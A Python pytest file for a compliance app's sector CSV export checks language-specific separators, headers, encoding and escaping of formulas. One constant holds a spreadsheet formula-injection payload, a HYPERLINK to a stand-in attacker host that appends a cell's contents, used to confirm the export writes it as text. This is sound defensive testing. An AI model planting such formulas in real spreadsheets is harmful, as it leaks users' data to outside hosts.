"""The sector export as a spreadsheet opens it: the reader's language, separator and
words; a member's name never runs as a formula."""

import csv
import io

import pytest
from sqlalchemy import select

from compliance.extensions import db
from compliance.members.models import Member
from tests.conftest import login

INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


@pytest.fixture
def staff_client(app, client, people, assessments):
    with app.app_context():
        member = db.session.scalar(select(Member).where(Member.code == "MEM-A"))
        member.name = INJECTED  # as a member could have typed it
        db.session.commit()
    login(client, people["staff"])
    return client


def exported(client, query: str = "", language: str = "en"):
    response = client.get(f"/dashboard/sector.csv{query}",
                          headers={"Accept-Language": language})
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=sector-")
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte order mark
    return body.decode("utf-8-sig")


def rows_of(text: str, delimiter: str) -> list[dict[str, str]]:
    header, *lines = csv.reader(io.StringIO(text), delimiter=delimiter)
    return [dict(zip(header, line, strict=True)) for line in lines]


def set_language(app, email: str, locale: str) -> None:
    from compliance.auth.models import User

    with app.app_context():
        db.session.scalar(select(User).where(User.email == email)).locale = locale
        db.session.commit()


def test_english_readers_get_commas_and_english_words(staff_client):
    text = exported(staff_client)
    assert text.splitlines()[0] == ("Code,Name,Region,Activities,State,Answered,Applicable,"
                                    "Progress (%),Self-assessment score,Consultant score,"
                                    "Readiness,Open actions,Overdue actions")
    rows = {r["Code"]: r for r in rows_of(text, ",")}
    assert rows["MEM-A"]["Region"] == "Flanders"
    assert rows["MEM-A"]["Activities"] == "Orthoses, Has employees"
    assert rows["MEM-A"]["State"] == "Not started"


def test_a_formula_in_a_members_name_is_exported_as_text(staff_client):
    rows = {r["Code"]: r for r in rows_of(exported(staff_client), ",")}
    assert rows["MEM-A"]["Name"] == "'" + INJECTED


@pytest.mark.parametrize(("language", "header", "region", "state"), [
    ("fr", "Code;Nom;Région;Activités;État", "Flandre", "Non commencée"),
    ("nl", "Code;Naam;Gewest;Activiteiten;Status", "Vlaanderen", "Niet gestart")])
def test_french_and_dutch_readers_get_semicolons_and_their_words(app, staff_client, people,
                                                                 language, header, region,
                                                                 state):
    set_language(app, people["staff"], language)
    text = exported(staff_client)
    assert text.splitlines()[0].startswith(header + ";")
    row = {r["Code"]: r for r in rows_of(text, ";")}["MEM-A"]
    assert (row[header.split(";")[2]], row[header.split(";")[4]]) == (region, state)
    assert rows_of(exported(staff_client, "?sep=comma"), ",")[0]["Code"]  # chosen: commas
